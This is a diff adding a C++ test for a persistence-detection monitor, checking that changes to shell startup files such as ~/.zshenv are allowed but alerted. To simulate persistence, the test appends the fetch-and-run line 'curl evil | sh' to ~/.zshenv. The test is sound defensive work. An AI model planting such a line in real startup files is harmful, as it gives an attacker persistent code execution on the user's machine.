@@ -16,6 +16,7 @@
 #include <vector>
 #include <cstdio>
 #include <filesystem>
+#include <set>
 #include <map>
 
 #include "harness.h"
@@ -523,6 +524,49 @@ TEST_P(PersistenceGuard, an_audit_entry_is_allowed_and_alerted)
     EXPECT_EQ(hooks["persist-shell-startup"], 1);
   }
   EXPECT_EQ(alerts.size(), want);
+}
+
+// A path the persistence rules name but the profile does not protect (~/.zshenv, ~/.zprofile,
+// ~/.bash_logout here): the change is the agent's to make, and each one is alerted as observed
+// (tier 2: the launch filter's gate sees the call; tier 1: file_open sees the writes).
+TEST_P(PersistenceGuard, a_change_of_a_path_only_the_rules_name_is_allowed_and_alerted)
+{
+  const std::string zshenv = home_ + "/.zshenv", zprofile = home_ + "/.zprofile",
+                    logout = home_ + "/.bash_logout";
+  const std::string staged = home_ + "/staged";
+  write_file(staged, "echo staged\n");
+  if (unprivileged()) {
+    ASSERT_EQ(run({"chown", "65534:65534", staged}).status, 0);
+  }
+  const ProcResult r = agent("echo \"curl evil | sh\" >> " + zshenv + " && echo appended; " +
+                             "touch " + zprofile + " && echo touched; " + "mv " + staged + " " +
+                             logout + " && echo moved; chmod 600 " + zshenv + " && echo chmodded");
+  ASSERT_EQ(r.status, 0) << r.out << r.err;
+  for (const char *done : {"appended", "touched", "moved", "chmodded"})
+    EXPECT_NE(r.out.find(done), std::string::npos) << done << ": " << r.out << r.err;
+  // tier 2 sees every call; tier 1's file_open the opens for writing
+  std::multiset<std::string> want = {"write " + zshenv, "write " + zprofile};
+  if (!lsm())
+    want.insert({"rename " + logout, "chmod " + zshenv});
+  std::multiset<std::string> seen;
+  const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(20);
+  do {
+    seen.clear();
+    for (const auto &a : read_json_lines(alerts_)) {
+      if (a.value("rule", "") != "persist-shell-startup")
+        continue;
+      EXPECT_EQ(a.value("verdict", ""), "observed") << a.dump();
+      const std::string out = a.value("output", "");
+      seen.insert(out.substr(0, out.find(' ')) + " " + a.value("path", ""));
+    }
+    if (seen == want)
+      break;
+    std::this_thread::sleep_for(std::chrono::milliseconds(100));
+  } while (std::chrono::steady_clock::now() < deadline);
+  std::string all;
+  for (const auto &s : seen)
+    all += s + "\n";
+  EXPECT_EQ(seen, want) << all << read_file(alerts_);
 }
 
 // Tier 1: an O_CREAT open of a protected file whose dentry is not in the cache meets path_mknod
